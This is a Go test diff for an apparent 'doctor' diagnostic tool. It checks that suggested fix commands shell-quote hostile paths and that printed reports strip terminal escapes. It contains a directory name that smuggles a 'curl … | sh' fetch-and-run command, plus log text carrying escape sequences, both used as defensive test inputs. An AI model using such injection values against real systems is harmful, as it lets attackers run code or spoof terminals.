@@ -5,6 +5,7 @@ import (
 	"encoding/json"
 	"fmt"
 	"os"
+	"os/exec"
 	"path/filepath"
 	"strings"
 	"testing"
@@ -586,5 +587,36 @@ func TestParseVersion(t *testing.T) {
 		if got := parseVersion(in); got != want {
 			t.Errorf("parseVersion(%q) = %v, want %v", in, got, want)
 		}
+	}
+}
+
+// TestFixQuotesItsWords: a fix command names a path as one shell word
+// whatever the path holds, and nothing doctor prints carries a terminal
+// escape, whoever wrote the file it quotes.
+func TestFixQuotesItsWords(t *testing.T) {
+	h := newHost(t)
+	dir := filepath.Join(h.dir, "it's; curl 203.0.113.7 | sh #")
+	h.mkdir(dir)
+	h.opt.LogFile = filepath.Join(dir, "hook.log")
+	h.write(filepath.Join(h.dir, "elsewhere"), "", 0o640)
+	if err := os.Symlink(filepath.Join(h.dir, "elsewhere"), h.opt.LogFile); err != nil {
+		t.Fatal(err)
+	}
+	quoted := "'" + strings.ReplaceAll(h.opt.LogFile, "'", `'\''`) + "'"
+	want(t, h.run(), "log", Fail, "is a symlink", "sudo rm "+quoted)
+	if out, err := exec.Command("sh", "-c", `printf %s `+quoted).Output(); err != nil || string(out) != h.opt.LogFile {
+		t.Errorf("the shell reads %s as %q (%v), want the path", quoted, out, err)
+	}
+
+	os.Remove(h.opt.LogFile)
+	h.write(h.opt.LogFile, `time="2026-11-23T03:58:00Z" level=error msg="x"`+"\x1b[2J\x1b]0;owned\x07\r\n", 0o640)
+	rep := h.run()
+	want(t, rep, "log", Warn, `msg="x"\x1b[2J\x1b]0;owned\x07`, "")
+	var text bytes.Buffer
+	if err := rep.WriteText(&text); err != nil {
+		t.Fatal(err)
+	}
+	if strings.ContainsAny(text.String(), "\x1b\x07\r") {
+		t.Errorf("doctor prints a terminal escape:\n%q", text.String())
 	}
 }
